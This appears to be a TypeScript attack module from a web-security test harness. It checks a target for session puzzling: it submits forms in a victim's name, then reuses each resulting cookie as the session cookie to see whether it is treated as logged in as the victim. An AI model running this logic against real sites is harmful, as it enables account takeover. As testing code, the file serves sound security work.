import { attackerClient } from './attacker-client.ts'
import { type Attack, inWords, victim } from './target.ts'

/**
 * Session puzzling: a step that anyone may take in the victim's name leaves the victim's name in the session, where another
 * page takes it for a login. Each cookie is also presented under the session's name: two sessions of one site must not be one.
 */
export const puzzling: Attack = async (target) => {
  const client = attackerClient(target)
  const statuses: number[] = []
  for (const form of target.puzzle) statuses.push(await client.post(form))
  const steps = `${target.puzzle.map(({ path }) => path).join(', ')} (${statuses.join(', ')})`
  const tickets = client.jar.list().map(({ name, value }) => ({ name, cookie: `${target.cookieName()}=${value}` }))
  for (const { name, cookie } of tickets) {
    const holder = await target.whoIs(cookie)
    const status = await client.get('/dashboard', cookie)
    if (holder.userId === victim.name) {
      return { succeeded: true, evidence: `after ${steps} the sender is ${inWords(holder)}, by ${name} (${status})` }
    }
  }
  return {
    succeeded: false,
    evidence: `after ${steps} the sender is nobody, by ${tickets.map(({ name }) => name).join(' or ')}`,
  }
}
